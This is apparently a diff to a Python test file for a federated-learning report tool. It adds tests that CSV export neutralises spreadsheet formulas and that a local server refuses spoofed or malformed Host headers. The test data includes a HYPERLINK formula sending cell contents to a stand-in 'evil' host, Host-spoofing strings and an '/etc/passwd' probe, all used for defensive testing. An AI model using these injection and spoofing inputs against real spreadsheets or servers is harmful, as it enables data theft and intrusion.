@@ -3,8 +3,10 @@
 import csv
 import hashlib
 import http.client
+import io
 import json
 import re
+import socket
 import threading
 import time
 from importlib.resources import files
@@ -13,7 +15,7 @@ import fake
 import pytest
 
 from kairosfl.errors import UserError
-from kairosfl.report.export import as_latex, export_figures, export_tables
+from kairosfl.report.export import as_csv, as_latex, export_figures, export_tables
 from kairosfl.report.page import verdict, write_report
 from kairosfl.report.read import read_groups
 from kairosfl.report.static import draw_comparison
@@ -162,7 +164,7 @@ def test_an_empty_folder_is_refused_and_nothing_is_written(tmp_path):
     ],
 )
 def test_every_picture_is_exported(tmp_path, kind, start):
-    run = fake.write_run(tmp_path / "run", algorithm="fedaware", rounds=4, clients=5)
+    run = fake.write_run(tmp_path / "run", algorithm="fedaware", rounds=4, clients=5, detector="fgn.paired()")
     written = export_figures([run], tmp_path / "out", kind)
     curves = "accuracy accuracy-bytes accuracy-epochs loss train-loss client-accuracy client-quantiles"
     curves += " fgn elud coherence"
@@ -190,7 +192,7 @@ def test_tables_are_exported_as_csv_and_latex(sweep, tmp_path):
     shown = next(line for line in table if line.startswith("FedAvg &")).split(" & ")[1]
     assert f"{100 * float(first['last_tenth']):.2f} $\\pm$ {100 * float(first['last_tenth_deviation']):.2f}" == shown
     assert all(re.fullmatch(r"-?[\d.e-]*", value) for row in rows for key, value in row.items() if "_" in key)
-    assert len(list(csv.DictReader((tmp_path / "tests.csv").open()))) == 3
+    assert len(list(csv.DictReader((tmp_path / "tests.csv").open()))) == 4
 
 
 def test_runs_that_were_never_evaluated_are_exported_with_gaps(tmp_path):
@@ -302,6 +304,12 @@ def test_augmented_runs_have_the_same_data(tmp_path):
     assert [group.problem for group in read_groups([tmp_path])] == ["", ""]
 
 
+@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil/"&A1,"x")', "+1", "-1+1", "@SUM(A1)", "\t=1"])
+def test_csv_defuses_what_a_spreadsheet_would_evaluate(text):
+    (row,) = csv.DictReader(io.StringIO(as_csv([{"algorithm": text, "gain": -1.5, "plain": "a=b"}]), newline=""))
+    assert row == {"algorithm": f"'{text}", "gain": "-1.5", "plain": "a=b"}
+
+
 def test_latex_escapes_what_it_would_take_for_a_command():
     assert as_latex([{"a_b": "50 %", "c": "1 ± 2"}]) == (
         "\\begin{tabular}{lr}\n\\toprule\na\\_b & c \\\\\n\\midrule\n50 \\% & 1 $\\pm$ 2 \\\\\n"
@@ -354,6 +362,45 @@ def test_the_server_listens_here_only_and_answers_to_no_other_name(server):
     assert get(server, host="evil.example")[0] == 403
     assert get(server, host="localhost:1")[0] == 200
     assert get(server, "/etc/passwd")[0] == 404
+
+
+@pytest.mark.parametrize(
+    ("lines", "status"),
+    [
+        (["GET / HTTP/1.1", "Host: ["], 403),
+        (["GET / HTTP/1.1", "Host: evil.example@localhost"], 403),
+        (["GET / HTTP/1.1", "Host: localhost", "Host: evil.example"], 403),
+        (["GET / HTTP/1.1", "Host: localhost/../x"], 403),
+        (["GET / HTTP/1.1"], 403),
+        (["GET http://evil.example/ HTTP/1.1", "Host: localhost"], 404),
+        (["GET //[ HTTP/1.1", "Host: localhost"], 404),
+        (["GET / HTTP/1.1", "Host: LOCALHOST:8765"], 200),
+        (["GET / HTTP/1.1", "Host: [::1]:8765"], 200),
+        (["GET /"], None),
+    ],
+)
+def test_a_request_that_no_browser_sends_is_answered_at_once_and_prints_nothing(server, lines, status, capsys):
+    with socket.create_connection(server.server_address, timeout=10) as peer:
+        end = "" if status is None else "Connection: close\r\n\r\n"
+        peer.sendall(("".join(f"{line}\r\n" for line in lines) + end).encode())
+        answer = b"".join(iter(lambda: peer.recv(1 << 16), b""))
+    assert answer.split()[1:2] == ([str(status).encode()] if status else [])
+    assert capsys.readouterr().err == ""
+
+
+@pytest.mark.parametrize(
+    ("error", "said"),
+    [
+        (BrokenPipeError(), ""),
+        (KeyError("x\ny"), "kairosfl: a request failed: KeyError: 'x\\ny'\n"),
+    ],
+)
+def test_a_peer_that_goes_away_is_no_traceback_and_a_fault_is_one_line(server, capsys, error, said):
+    try:
+        raise error
+    except type(error):
+        server.handle_error(None, None)
+    assert capsys.readouterr().err == said
 
 
 def test_the_live_page_counts_to_the_target_that_is_asked_for(tmp_path):
